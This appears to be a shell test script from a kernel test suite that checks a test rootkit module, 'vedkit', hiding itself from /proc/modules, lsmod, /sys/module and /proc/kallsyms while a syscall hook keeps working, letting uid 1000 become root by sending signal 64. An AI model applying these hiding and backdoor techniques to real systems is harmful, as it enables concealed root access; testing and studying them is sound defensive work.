# SPDX-License-Identifier: GPL-2.0
# vedkit technique "hide_module": vedkit unlinks itself from the module list
# and from /sys/module during its init; its hooks keep working (here the
# x64_sys_call patch: kill -64 makes uid 1000 root).
. /tests/lib/guest.sh

# kill -64 as uid 1000, then the shell's own effective uid as the kernel
# shows it, read with shell builtins only: busybox applets run by the shell
# would re-apply the uid busybox cached at its start.
magic_uid() {
	as_user sh -c 'kill -64 99999
		while read -r k r e rest; do [ "$k" = Uid: ] && echo "$e"; done </proc/$$/status' \
		2>/dev/null
}
visible() {
	grep -q '^vedkit ' /proc/modules && lsmod | grep -q '^vedkit ' && [ -d /sys/module/vedkit ]
}
hidden() {
	! grep -q '^vedkit ' /proc/modules && ! lsmod | grep -q '^vedkit ' &&
		[ ! -e /sys/module/vedkit ] && ! grep -q '\[vedkit\]' /proc/kallsyms
}

load_module vedkit techniques=none
expect rootkit-hide-module-before "without hide_module, vedkit shows in /proc/modules, lsmod and /sys/module" visible
rmmod vedkit

expect rootkit-hide-module-load "vedkit techniques=hide_module,dispatch loads" \
	load_module vedkit techniques=hide_module,dispatch
expect rootkit-hide-module-after "vedkit is gone from /proc/modules, lsmod, /sys/module and /proc/kallsyms" hidden
expect rootkit-hide-module-rmmod "rmmod cannot find it" sh -c '! rmmod vedkit 2>/dev/null'
uid=$(magic_uid)
expect rootkit-hide-module-effect "its x64_sys_call hook still works: kill -64 as uid 1000 gives uid $uid" [ "$uid" = 0 ]
